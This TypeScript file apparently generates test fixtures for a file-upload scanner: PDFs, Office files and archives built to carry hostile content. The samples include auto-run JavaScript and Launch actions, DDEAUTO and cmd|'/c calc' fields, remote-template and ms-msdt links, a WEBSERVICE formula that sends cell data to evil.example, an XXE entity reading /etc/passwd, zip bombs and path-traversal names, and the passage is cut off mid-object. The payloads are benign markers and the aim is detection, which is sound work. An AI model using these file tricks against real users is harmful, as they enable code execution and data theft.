import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { archive, type Packed } from './archives.ts'

/**
 * Files that nobody should be able to leave with the platform, made by hand: documents that act, archives that lie or grow, files that are
 * two things at once, pages and programs under the names of documents. Nothing here does any harm when it is opened.
 */
export type HostileFile = { title: string; name: string; make: () => Uint8Array }

const MARK = 'https://evil.example/x'

// --- PDF ---------------------------------------------------------------------------------------------------------------------------

type Pdf = { catalog?: string; page?: string; objects?: string[] }
const CATALOG = 1
const [PAGES, PAGE] = [2, 3]

const body = ({ catalog = '', page = '', objects = [] }: Pdf): [number, string][] => [
  [CATALOG, `<< /Type /Catalog /Pages ${PAGES} 0 R ${catalog} >>`],
  [PAGES, `<< /Type /Pages /Kids [${PAGE} 0 R] /Count 1 >>`],
  [PAGE, `<< /Type /Page /Parent ${PAGES} 0 R /MediaBox [0 0 200 200] ${page} >>`],
  ...objects.map((text, at): [number, string] => [10 + at, text]),
]
const HEAD = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'
const tail = (more = '') => `trailer << /Root ${CATALOG} 0 R /Size 50 ${more} >>\nstartxref\n0\n%%EOF\n`
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
const written = (objects: readonly [number, string][], end = '\n') => objects.map(([number, text]) => `${number} 0 obj${end}${text}${end}endobj${end}`).join('')

/** Objects in a packed stream, as newer programs write all of them. */
function packedObjects(objects: readonly [number, string][], { type = '/Type /ObjStm', level = 9 }: { type?: string; level?: number } = {}): string {
  let at = 0
  const pairs = objects.map(([number, text]) => {
    const pair = `${number} ${at}`
    at += text.length + 1
    return pair
  })
  const head = `${pairs.join(' ')} `
  const packed = deflateSync(bytes(head + objects.map(([, text]) => text).join('\n')), { level }).toString('latin1')
  return `40 0 obj\n<< ${type} /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`
}
const escaped = (text: string) =>
  text.replaceAll(/\/([A-Z][A-Za-z]{1,})/g, (_all, name: string) => `/${name[0]}#${name.charCodeAt(1).toString(16)}${name.slice(2)}`)

/** Ways to write the same document down. */
const PDF_DRESSES: Record<string, (pdf: Pdf) => string> = {
  'as it is': (pdf) => HEAD + written(body(pdf)) + tail(),
  'names with escapes': (pdf) => HEAD + written(body(pdf).map(([number, text]) => [number, escaped(text)])) + tail(),
  'objects in a packed stream': (pdf) => HEAD + packedObjects(body(pdf)) + tail(),
  'objects in a packed stream, names with escapes': (pdf) => HEAD + packedObjects(body(pdf).map(([number, text]) => [number, escaped(text)])) + tail(),
  'objects in a packed stream that does not say so': (pdf) => HEAD + packedObjects(body(pdf), { type: '/Type /Metadata' }) + tail(),
  'added to an honest document': (pdf) => HEAD + written(body({})) + tail() + written(body(pdf)) + tail('/Prev 9'),
  'other line ends and blanks': (pdf) =>
    HEAD +
    written(
      body(pdf).map(([number, text]) => [number, text.replaceAll(' ', '\0')]),
      '\r',
    ) +
    tail(),
  'hidden in the bytes of a stream': (pdf) =>
    `${HEAD}${written(body({}))}30 0 obj\n<< /Length 9 >>\nstream\n${written(body(pdf))}\nendstream\nendobj\n${tail()}`,
  'hidden in a comment': (pdf) => `${HEAD}${written(body({}))}%${written(body(pdf)).replaceAll('\n', ' ')}\n${tail()}`,
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const link = `<< /S /URI /URI (${MARK}) >>`
const PDFS: Record<string, Pdf> = {
  'a script on opening': { catalog: `/OpenAction ${script}` },
  'a script on opening, elsewhere': { catalog: '/OpenAction 10 0 R', objects: [script] },
  'a script among the names': { catalog: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [script] },
  'a script when a page opens': { page: `/AA << /O ${script} >>` },
  'a program': { page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]' },
  'a program on opening': { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  'a file inside': { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>', objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>'] },
  'a file inside, found by its kind': { objects: ['<< /Type /EmbeddedFile /Length 0 >>'] },
  'a file pinned to a page': { page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>]' },
  'a site on opening': { catalog: `/OpenAction ${link}` },
  'a site on opening, elsewhere': { catalog: '/OpenAction 10 0 R', objects: [link] },
  'a site after a harmless step': { catalog: `/OpenAction << /S /GoTo /D [${PAGE} 0 R /Fit] /Next ${link} >>` },
  'a site when a page opens': { page: `/AA << /O ${link} >>` },
  'a form that sends': { page: `/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (${MARK}) >> >>]` },
  'a form that fetches': { page: '/Annots [<< /Subtype /Widget /A << /S /ImportData /F (a.fdf) >> >>]' },
  'a form of the other kind': { catalog: '/AcroForm << /XFA 10 0 R >>', objects: ['<< /Length 0 >>'] },
  'a film with a script': { page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' },
  'another document': { page: String.raw`/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >> >>]` },
  'a document inside': { page: '/Annots [<< /Subtype /Link /A << /S /GoToE /D [0 /Fit] >> >>]' },
  'a portfolio': { catalog: '/Collection << /View /T >>' },
}

function pdfFiles(): HostileFile[] {
  const acting = Object.entries(PDFS).flatMap(([what, pdf]) =>
    Object.entries(PDF_DRESSES).map(([dress, write]) => ({ title: `PDF: ${what}, ${dress}`, name: '合同.pdf', make: () => bytes(write(pdf)) })),
  )
  const honest = HEAD + written(body({})) + tail()
  const stream = (dictionary: string, content: string) => `30 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`
  const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024))
  const packed = (megabytes: number) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zeros(megabytes).toString('latin1'))
  const odd: [string, () => string][] = [
    ['packed objects of twenty megabytes', () => HEAD + written(body({})) + packed(20) + tail()],
    ['packed objects in many streams', () => HEAD + written(body({})) + packed(12).repeat(8) + tail()],
    [
      'a stream packed twice',
      () => HEAD + written(body({})) + stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(zeros(20)).toString('latin1')) + tail(),
    ],
    [
      'objects packed as nobody packs them',
      () => HEAD + written(body({})) + stream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', '31303020') + tail(),
    ],
    ['objects packed by a way named elsewhere', () => HEAD + written(body({})) + stream('/Type /ObjStm /N 1 /First 4 /Filter 12 0 R', 'x') + tail()],
    ['packed objects that are encrypted', () => HEAD + packedObjects(body({})) + tail('/Encrypt 9 0 R')],
    [
      'packed objects that cannot be unpacked',
      () => HEAD + written(body({})) + stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'xxxxxxxxxxxx') + tail(),
    ],
    ['no end', () => HEAD + written(body({}))],
    ['a text without an end', () => HEAD + written(body({ catalog: '/Title (' })) + tail()],
    ['a hundred thousand open brackets', () => HEAD + '('.repeat(100_000) + tail()],
    ['a page at its beginning', () => `%PDF-1.7\n%<html><script>alert(1)</script>\n${written(body({}))}${tail()}`],
    ['a drawing at its beginning', () => `%PDF-1.7\n%<svg onload=alert(1)>\n${written(body({}))}${tail()}`],
    ['an archive behind it', () => honest + Buffer.from(archive([{ name: 'a.txt', content: 'x' }])).toString('latin1')],
    ['a program behind it', () => `${honest}MZ${'\u0090\u0001'.repeat(4000)}`],
  ]
  return [...acting, ...odd.map(([what, make]) => ({ title: `PDF: ${what}`, name: 'a.pdf', make: () => bytes(make()) }))]
}

// --- Office ------------------------------------------------------------------------------------------------------------------------

const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types'
const KINDS = {
  docx: { main: 'word/document.xml', type: 'wordprocessingml.document.main+xml', folder: 'word' },
  xlsx: { main: 'xl/workbook.xml', type: 'spreadsheetml.sheet.main+xml', folder: 'xl' },
  pptx: { main: 'ppt/presentation.xml', type: 'presentationml.presentation.main+xml', folder: 'ppt' },
} as const
export type OfficeKind = keyof typeof KINDS
type Parts = { content?: string; types?: string; relations?: string; parts?: Packed[]; mainType?: string }

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const mainPart = (kind: OfficeKind, content: string): string => {
  if (kind === 'docx') return `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}"><w:body>${content || '<w:p/>'}</w:body></w:document>`
  const namespace = `http://schemas.openxmlformats.org/${kind === 'xlsx' ? 'spreadsheetml' : 'presentationml'}/2006/main`
  return `<?xml version="1.0" encoding="UTF-8"?><${kind === 'xlsx' ? 'workbook' : 'p:presentation'} xmlns="${namespace}" xmlns:p="${namespace}">${content}</${kind === 'xlsx' ? 'workbook' : 'p:presentation'}>`
}

/** The parts of a small office document, with what is added to it. */
export function officeParts(kind: OfficeKind, { content = '', types = '', relations = '', parts = [], mainType }: Parts = {}): Packed[] {
  const { main, type, folder } = KINDS[kind]
  const declared = mainType ?? `application/vnd.openxmlformats-officedocument.${type}`
  return [
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${types}<Override PartName="/${main}" ContentType="${declared}"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<?xml version="1.0"?><Relationships xmlns="${RELS}"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="${main}"/></Relationships>`,
    },
    { name: main, content: mainPart(kind, content) },
    { name: `${folder}/_rels/${main.split('/')[1]}.rels`, content: `<?xml version="1.0"?><Relationships xmlns="${RELS}">${relations}</Relationships>` },
    ...parts,
  ]
}
export const office = (kind: OfficeKind, parts: Parts = {}): Uint8Array => archive(officeParts(kind, parts))

export const relation = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="rId9" Type="${type.startsWith('http') ? type : `${OFFICE}/${type}`}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`
const outside = (type: string, target: string) => relation(type, target, 'External')
const CONTAINER = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)])
const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600)])
const MS = 'http://schemas.microsoft.com/office/2006/relationships'

const inEvery = (folder: string): Record<string, Parts> => ({
  macros: {
    types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    relations: relation(`${MS}/vbaProject`, 'vbaProject.bin'),
    parts: [{ name: `${folder}/vbaProject.bin`, content: CONTAINER }],
  },
  'macros nobody declared': { parts: [{ name: `${folder}/vbaProject.bin`, content: CONTAINER }] },
  'macros under another name': { parts: [{ name: `${folder}/media/image1.png`, content: CONTAINER }] },
  'macros by their relation': { relations: relation(`${MS}/vbaProject`, 'theme/theme1.xml') },
  'a type with macros': { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
  'a part with macros': { types: '<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>' },
  'a control': {
    relations: relation('control', 'activeX/activeX1.xml'),
    parts: [{ name: `${folder}/activeX/activeX1.xml`, content: '<ax:ocx xmlns:ax="x"/>' }],
  },
  'an embedded object': {
    relations: relation('oleObject', 'embeddings/oleObject1.bin'),
    parts: [{ name: `${folder}/embeddings/oleObject1.bin`, content: CONTAINER }],
  },
  'an object from elsewhere': { relations: outside('oleObject', `mhtml:${MARK}!x-usc:${MARK}`) },
  'a program as an embedded sheet': { relations: relation('package', 'embeddings/a.xlsx'), parts: [{ name: `${folder}/embeddings/a.xlsx`, content: PROGRAM }] },
  'a program among the pictures': { parts: [{ name: `${folder}/media/a.bin`, content: PROGRAM }] },
  'a template from a site': { relations: outside('attachedTemplate', `${MARK}.dotm`) },
  'a template from a share': { relations: outside('attachedTemplate', String.raw`\\evil.example\share\a.dotm`) },
  'a template from a share, as a file': { relations: outside('attachedTemplate', 'file://evil.example/share/a.dotm') },
  'a template with an escaped address': { relations: outside('attachedTemplate', '&#104;ttp://evil.example/a.dotm') },
  'a frame from elsewhere': { relations: outside('frame', MARK) },
  'a picture from elsewhere': { relations: outside('image', `${MARK}.png`) },
  'a page in place of a part': { relations: relation('aFChunk', 'a.mht'), parts: [{ name: `${folder}/a.mht`, content: 'x' }] },
  'another document in place of a part': { relations: outside('subDocument', `${MARK}.docx`) },
  'a link that starts a program': { relations: outside('hyperlink', 'ms-msdt:/id PCWDiagnostic') },
  'a link with a script': { relations: outside('hyperlink', 'javascript:alert(1)') },
  'an add-in': { parts: [{ name: `${folder}/webextensions/taskpanes.xml`, content: '<x/>' }] },
  'a query': {
    relations: relation('connections', 'connections.xml'),
    parts: [{ name: `${folder}/connections.xml`, content: `<connections><connection><webPr url="${MARK}"/></connection></connections>` }],
  },
  'a drawing with a script': { parts: [{ name: `${folder}/media/a.svg`, content: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }] },
  'a document type': { parts: [{ name: `${folder}/a.xml`, content: `<!DOCTYPE x SYSTEM "${MARK}"><x/>` }] },
  'an entity': { parts: [{ name: `${folder}/a.xml`, content: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>` }] },
  'a part in another encoding': { parts: [{ name: `${folder}/a.xml`, content: Buffer.from('\ufeff<!DOCTYPE x><x/>', 'utf16le') }] },
  'an archive inside': { parts: [{ name: `${folder}/a.bin`, content: archive([{ name: 'a.txt', content: 'x' }]) }] },
  'a document inside a sheet inside': {
    parts: [{ name: `${folder}/embeddings/a.xlsx`, content: office('xlsx', { parts: [{ name: 'xl/embeddings/b.xlsx', content: office('xlsx') }] }) }],
  },
  'macros in a sheet inside': {
    parts: [{ name: `${folder}/embeddings/a.xlsx`, content: office('xlsx', { parts: [{ name: 'xl/vbaProject.bin', content: CONTAINER }] }) }],
  },
})

const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const FIELDS: Record<string, string> = {
  DDEAUTO: field(String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `),
  DDE: field(' DDE Excel Sheet1 R1C1 '),
  'in small letters': field(' ddeauto cmd "/k calc" '),
  'spread over runs': field(' D', 'DE', 'AU', 'TO cmd "/k calc"'),
  'with entities': field(' &#68;&#x44;EAUTO cmd'),
  'in an attribute': '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "><w:r/></w:fldSimple></w:p>',
  'put together by a field': field(' QUOTE 68 68 69 65 85 84 79 32 99 109 100 '),
  'a text from elsewhere': field(` INCLUDETEXT "${MARK}.docx" `),
  'a linked object': field(String.raw` LINK Excel.Sheet.12 "\\\\evil.example\\a.xlsx" `),
  'a picture from a share': field(String.raw` INCLUDEPICTURE "\\\\evil.example\\a.png" `),
  'an object among the text': '<w:p><w:r><w:object w:dxaOrig="1"/></w:r></w:p>',
  'behind forty thousand letters': `<w:p><w:r><w:t>${'长'.repeat(40_000)}</w:t></w:r></w:p>${field(' DDE', 'AUTO cmd')}`,
}

const sheet = (content: string): Parts => ({
  parts: [{ name: 'xl/worksheets/sheet1.xml', content: `<?xml version="1.0"?><worksheet><sheetData>${content}</sheetData></worksheet>` }],
})
const formula = (text: string) => sheet(`<row r="1"><c r="A1"><f>${text}</f><v>0</v></c></row>`)
const SHEETS: Record<string, Parts> = {
  'a formula that starts a program': formula("cmd|'/c calc'!A0"),
  'a formula that starts a program, with blanks': formula("cmd  |  '/c calc'!A0"),
  'a formula with entities': formula('cmd&#124;&apos;/c calc&apos;!A0'),
  'a formula with arguments': formula(String.raw`MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!A1`),
  'DDE as a function': formula('DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)'),
  'a value from a site': formula(`WEBSERVICE(&quot;${MARK}?&quot;&amp;A2)`),
  'a picture from a site': formula(`_xlfn.IMAGE(&quot;${MARK}&quot;)`),
  'a call': formula('CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)'),
  'a macro sheet': { parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }] },
  'a macro sheet by its type': { types: '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>' },
  'a link to a program': {
    parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }],
  },
  'a linked object': { parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><oleLink progId="Package"/></externalLink>' }] },
  'a name that starts a program': { content: '<definedNames><definedName name="a">cmd|\'/c calc\'!A0</definedName></definedNames>' },
  'a workbook on a share': { relations: outside('externalLinkPath', 'file://evil.example/share/a.xlsx') },
  'a formula behind a long sheet': sheet(`${'<row><c><v>1</v></c></row>'.repeat(8000)}<row><c><f>cmd|'/c calc'!A0</f></c></row>`),
}

/** Archives that no office program writes. */
const ARCHIVES: Record<string, (kind: OfficeKind) => Uint8Array> = {
  'a part packed a thousand to one': (kind) => swollen(kind, 1, Buffer.alloc(64 * 1024 * 1024)),
  'parts that expand to a quarter of a gigabyte': (kind) => swollen(kind, 60, SPARSE),
  'thousands of parts': (kind) =>
    archive([...officeParts(kind), ...Array.from({ length: 1000 }, (_none, at) => ({ name: `media/${at}.xml`, content: '<x/>' }))]),
  'a part larger than it says': (kind) => office(kind, { parts: [{ name: 'a.xml', content: 'x'.repeat(5000), says: 10 }] }),
  'a part smaller than it says': (kind) => office(kind, { parts: [{ name: 'a.xml', content: 'x', says: 5000 }] }),
  'a directory that hides parts': (kind) => archive(officeParts(kind), { count: 3 }),
  'two parts of one name': (kind) => archive([...officeParts(kind), ...officeParts(kind).slice(2, 3)]),
  'a name that climbs': (kind) => office(kind, { parts: [{ name: '../../../etc/cron.d/a', content: 'x' }] }),
  'a name from the root': (kind) => office(kind, { parts: [{ name: '/etc/a', content: 'x' }] }),
  'an encrypted part': (kind) => office(kind, { parts: [{ name: 'a.xml', content: 'x', flags: 1 }] }),
  'cut in half': (kind) => office(kind).subarray(0, 700),
  'something before it': (kind) => Buffer.concat([Buffer.from('GIF89a'), office(kind)]),
  'something behind it': (kind) => Buffer.concat([office(kind), Buffer.from('<script>alert(1)</script>')]),
  'something between its parts': (kind) => between(Buffer.from(office(kind))),
  'two names for one part': (kind) => renamed(Buffer.from(office(kind))),
  'no document inside': (kind) => archive(officeParts(kind).filter(({ name }) => !name.startsWith(KINDS[kind].folder))),
}
/** Four megabytes that pack less than a hundred to one, so that no single part looks strange. */
const SPARSE = Buffer.from(Array.from({ length: 16 * 1024 }, (_none, at) => `${((at * 2_654_435_761) % 2 ** 32).toString(36)}${'x'.repeat(249)}`).join(''))

/** An office document with so many large parts, packed once. */
function swollen(kind: OfficeKind, count: number, content: Buffer): Buffer {
  const deflated = deflateRawSync(content)
  const small = officeParts(kind).map(({ name, content: text }) => ({ name, raw: Buffer.from(text) }))
  const large = Array.from({ length: count }, (_none, at) => ({ name: `media/${at}.bin`, raw: content, deflated }))
  return zipOf([...small, ...large].map((entry) => ({ deflated: deflateRawSync(entry.raw.subarray(0, 'deflated' in entry ? 0 : undefined)), ...entry })))
}

function zipOf(entries: readonly { name: string; raw: Buffer; deflated: Buffer }[]): Buffer {
  const sums = new Map<Buffer, number>()
  const [bodies, directory]: [Buffer[], Buffer[]] = [[], []]
  let offset = 0
  for (const { name, raw, deflated } of entries) {
    if (!sums.has(raw)) sums.set(raw, crc32(raw))
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(sums.get(raw) ?? 0, 10)
    common.writeUInt32LE(deflated.length, 14)
    common.writeUInt32LE(raw.length, 18)
    common.writeUInt16LE(name.length, 22)
    bodies.push(Buffer.from('PK\u0003\u0004', 'latin1'), common, Buffer.from(name), deflated)
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(offset, 10)
    directory.push(Buffer.from('PK\u0001\u0002\u0014\0', 'latin1'), common, rest, Buffer.from(name))
    offset += 30 + name.length + deflated.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\u0005\u0006', 0, 'latin1')
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(list.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...bodies, list, end])
}

/** Moves the directory and puts a page in front of it, which readers of the directory never see. */
function between(zip: Buffer): Buffer {
  const at = zip.readUInt32LE(zip.length - 6)
  const page = Buffer.from('<html><script>alert(1)</script></html>')
  const moved = Buffer.concat([zip.subarray(0, at), page, zip.subarray(at)])
  moved.writeUInt32LE(at + page.length, moved.length - 6)
  return moved
}
/** The head of the last entry says another name than the directory. */
function renamed(zip: Buffer): Buffer {
  const at = zip.lastIndexOf(Buffer.from('PK\u0003\u0004', 'latin1'))
  zip.write('zz', at + 30, 'latin1')
  return zip
}

function officeFiles(): HostileFile[] {
  const kinds = Object.keys(KINDS) as OfficeKind[]
  const every = kinds.flatMap((kind) =>
    Object.entries(inEvery(KINDS[kind].folder)).map(([what, parts]) => ({ title: `${kind}: ${what}`, name: `附件.${kind}`, make: () => office(kind, parts) })),
  )
  const archives = kinds.flatMap((kind) =>
    Object.entries(ARCHIVES).map(([what, make]) => ({ title: `${kind}: ${what}`, name: `附件.${kind}`, make: () => make(kind) })),
  )
  return [
    ...every,
    ...archives,
    ...Object.entries(FIELDS).map(([what, content]) => ({ title: `docx: a field, ${what}`, name: 'a.docx', make: () => office('docx', { content }) })),
    ...Object.entries(SHEETS).map(([what, parts]) => ({ title: `xlsx: ${what}`, name: 'a.xlsx', make: () => office('xlsx', parts) })),
    ...['a.docm', 'a.dotm', 'a.docx', 'a'].map((name) => ({
      title: `a document with macros called ${name}`,
      name,
      make: () => office('docx', inEvery('word')['macros']),
    })),
    {
      title: 'pptx: a slide that starts a program',
      name: 'a.pptx',
      make: () =>
        office('pptx', { parts: [{ name: 'ppt/slides/slide1.xml', content: '<p:sld><a:hlinkClick action="ppaction://program?file=cmd.exe"/></p:sld>' }] }),
    },
  ]
}

// --- Office files of before 2007 ------------------------------------------------------------------------------------------------------

type Stream = { name: string; content?: Buffer; storage?: true }
const SECTOR = 512

/** A compound file with these streams in its directory, each long enough to stand in sectors of its own. */
export function compound(streams: readonly Stream[], { circle = false } = {}): Buffer {
  const padded = streams.map(({ content }) => (content ? Buffer.concat([content, Buffer.alloc(Math.max(0, 4096 - content.length))]) : Buffer.alloc(0)))
  const directorySectors = Math.ceil(((streams.length + 1) * 128) / SECTOR)
  const table: number[] = [0xfffffffd]
  const sectors: Buffer[] = []
  const place = (bytesOf: Buffer): number => {
    const start = table.length
    const count = Math.ceil(bytesOf.length / SECTOR)
    for (let at = 0; at < count; at++) {
      table.push(at === count - 1 ? (circle ? start : 0xfffffffe) : start + at + 1)
      sectors.push(Buffer.concat([bytesOf.subarray(at * SECTOR, (at + 1) * SECTOR), Buffer.alloc(Math.max(0, (at + 1) * SECTOR - bytesOf.length))]))
    }
    return count === 0 ? 0xfffffffe : start
  }
  const directory = Buffer.alloc(directorySectors * SECTOR)
  const entry = (at: number, name: string, type: number, start: number, size: number) => {
    const from = at * 128
    directory.write(name, from, 'utf16le')
    directory.writeUInt16LE((name.length + 1) * 2, from + 64)
    directory[from + 66] = type
    for (const offset of [68, 72, 76]) directory.writeUInt32LE(0xffffffff, from + offset)
    directory.writeUInt32LE(start, from + 116)
    directory.writeUInt32LE(size, from + 120)
  }
  const starts = padded.map(place)
  entry(0, 'Root Entry', 5, 0xfffffffe, 0)
  streams.forEach(({ name, storage }, at) => entry(at + 1, name, storage ? 1 : 2, starts[at] ?? 0xfffffffe, padded[at]?.length ?? 0))
  const directoryStart = place(directory)
  const head = Buffer.alloc(SECTOR)
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(head)
  head.writeUInt16LE(0x3e, 24)
  head.writeUInt16LE(3, 26)
  head.writeUInt16LE(0xfffe, 28)
  head.writeUInt16LE(9, 30)
  head.writeUInt16LE(6, 32)
  head.writeUInt32LE(1, 44)
  head.writeUInt32LE(directoryStart, 48)
  head.writeUInt32LE(4096, 56)
  for (const offset of [60, 68]) head.writeUInt32LE(0xfffffffe, offset)
  head.fill(0xff, 76)
  head.writeUInt32LE(0, 76)
  const fat = Buffer.alloc(SECTOR, 0xff)
  table.forEach((next, at) => fat.writeUInt32LE(next, at * 4))
  return Buffer.concat([head, fat, ...sectors])
}

const record = (type: number, content: Buffer): Buffer => {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(type, 0)
  head.writeUInt16LE(content.length, 2)
  return Buffer.concat([head, content])
}
const book = (...records: Buffer[]): Buffer => Buffer.concat([record(0x809, Buffer.alloc(16)), ...records, record(0x0a, Buffer.alloc(0))])
const slide = (type: number): Buffer => {
  const head = Buffer.alloc(8)
  head.writeUInt16LE(type, 2)
  return head
}
export const OLD_MAIN = {
  doc: { name: 'WordDocument', content: Buffer.alloc(10) },
  xls: { name: 'Workbook', content: book() },
  ppt: { name: 'PowerPoint Document', content: Buffer.alloc(0) },
} satisfies Record<string, Stream>

function oldFiles(): HostileFile[] {
  const inside: Record<string, Stream[]> = {
    macros: [
      { name: 'Macros', storage: true },
      { name: 'VBA', storage: true },
    ],
    'a macro project': [{ name: '_VBA_PROJECT_CUR', storage: true }],
    'a project stream': [{ name: '_VBA_PROJECT', content: Buffer.alloc(10) }],
    'an object of Word': [
      { name: 'ObjectPool', storage: true },
      { name: '_1234567890', storage: true },
    ],
    'an object of Excel': [{ name: 'MBD0001A2B3', storage: true }],
    'a packed program': [{ name: '\u0001Ole10Native', content: PROGRAM }],
    'a control': [{ name: '\u0003OCXNAME', content: Buffer.alloc(4) }],
    'an encrypted document': [{ name: 'EncryptedPackage', content: Buffer.alloc(10) }],
  }
  const files = (Object.keys(OLD_MAIN) as (keyof typeof OLD_MAIN)[]).flatMap((kind) => [
    ...Object.entries(inside).map(([what, streams]) => ({
      title: `${kind}: ${what}`,
      name: `附件.${kind}`,
      make: () => compound([OLD_MAIN[kind], ...streams]),
    })),
    { title: `${kind}: a chain in a circle`, name: `a.${kind}`, make: () => compound([OLD_MAIN[kind]], { circle: true }) },
    { title: `${kind}: cut in half`, name: `a.${kind}`, make: () => compound([OLD_MAIN[kind]]).subarray(0, 1400) },
    {
      title: `${kind}: an archive behind it`,
      name: `a.${kind}`,
      make: () => Buffer.concat([compound([OLD_MAIN[kind]]), archive([{ name: 'a.txt', content: 'x' }])]),
    },
  ])
  const sheetOf = (kind: number) => record(0x85, Buffer.concat([Buffer.from([0, 0, 0, 0, 0, kind, 1, 0]), Buffer.from('a')]))
  const linkOf = (text: string) => record(0x1ae, Buffer.concat([Buffer.from([0, 0, text.length, 0, 0]), Buffer.from(text, 'latin1')]))
  const field = (text: string, encoding: BufferEncoding) => ({ name: 'WordDocument', content: Buffer.from(`\u0013${text}\u0015`, encoding) })
  const special: [string, string, Stream][] = [
    ['a macro sheet', 'xls', { name: 'Workbook', content: book(sheetOf(1)) }],
    ['a module of macros', 'xls', { name: 'Workbook', content: book(sheetOf(6)) }],
    ['a link to a program', 'xls', { name: 'Workbook', content: book(linkOf('cmd\u0003/c calc')) }],
    ['a workbook under a password', 'xls', { name: 'Workbook', content: book(record(0x2f, Buffer.alloc(6))) }],
    ['a workbook of no version', 'xls', { name: 'Workbook', content: Buffer.alloc(64) }],
    ['a field that starts a program', 'doc', field(' DDEAUTO cmd "/k calc" ', 'latin1')],
    ['a field that starts a program, in wide letters', 'doc', field(' DDE cmd "/k calc" ', 'utf16le')],
    ['macros of a presentation', 'ppt', { name: 'PowerPoint Document', content: slide(0x03ff) }],
    ['an object of a presentation', 'ppt', { name: 'PowerPoint Document', content: slide(0x1011) }],
  ]
  return [...files, ...special.map(([what, kind, stream]) => ({ title: `${kind}: ${what}`, name: `a.${kind}`, make: () => compound([stream]) }))]
}

// --- Anything else under the name of a document ------------------------------------------------------------------------------------

const ELSE: Record<string, string | Uint8Array> = {
  'a page': '<!doctype html><html><script>alert(1)</script></html>',
  'a page with a byte order mark': '\ufeff<html><body onload=alert(1)>',
  'a page behind blanks': `${' \n'.repeat(300)}<script>alert(1)</script>`,
  'a drawing': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'a drawing with a head': `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  'a document type': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`,
  'a saved mail': 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'a script': '#!/bin/sh\necho x\n',
